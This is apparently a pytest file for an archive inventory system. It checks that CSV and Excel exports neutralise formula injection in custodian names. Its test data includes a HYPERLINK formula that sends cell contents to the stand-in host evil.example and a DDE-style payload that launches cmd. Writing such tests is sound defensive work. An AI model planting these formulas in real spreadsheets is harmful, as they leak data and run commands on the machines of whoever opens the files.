"""Exports show what keepers typed as text: a custodian named like a formula does not run in Excel."""

from __future__ import annotations

import csv
from pathlib import Path

from openpyxl import load_workbook
from sqlalchemy.orm import Session, sessionmaker

from inventory import services as sv
from inventory.spreadsheet.cells import safe_cell
from inventory.spreadsheet.export import export_boxes
from tests.inventory.conftest import World

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"bấm")'


def test_csv_and_xlsx_exports_neutralise_formulas(
    sessions: sessionmaker[Session], world: World, tmp_path: Path
) -> None:
    with sessions() as s:
        sv.check_out(s, sv.get_box(s, "P12-ML3-H001"), EVIL, "reading_room", "keeper")
        sv.check_out(s, sv.get_box(s, "P12-ML3-H002"), "@SUM(1+1)*cmd|' /C calc'!A0", "reading_room", "keeper")
        s.commit()
        export_boxes(s, tmp_path / "boxes.xlsx")
        export_boxes(s, tmp_path / "boxes.csv")
    ws = load_workbook(tmp_path / "boxes.xlsx").active
    assert ws is not None
    rows = list(ws.iter_rows(values_only=True))
    custodians = {r[0]: r[9] for r in rows[1:]}
    assert custodians["P12-ML3-H001"] == "'" + EVIL
    assert str(custodians["P12-ML3-H002"]).startswith("'@SUM")
    # No cell of the workbook is a formula.
    for row in load_workbook(tmp_path / "boxes.xlsx").active.iter_rows():  # type: ignore[union-attr]
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
    with (tmp_path / "boxes.csv").open(encoding="utf-8-sig") as f:
        lines = list(csv.reader(f))
    by_code = {r[0]: r for r in lines[1:]}
    assert by_code["P12-ML3-H001"][9] == "'" + EVIL
    assert by_code["P12-ML3-H003"][9] == "" and by_code["P12-ML3-H003"][13] == "0.1", "other cells unchanged"


def test_safe_cell_leaves_numbers_and_plain_text() -> None:
    assert safe_cell(-3) == -3 and safe_cell(0.5) == 0.5 and safe_cell("Nguyễn Văn A") == "Nguyễn Văn A"
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(start + "1") == "'" + start + "1"
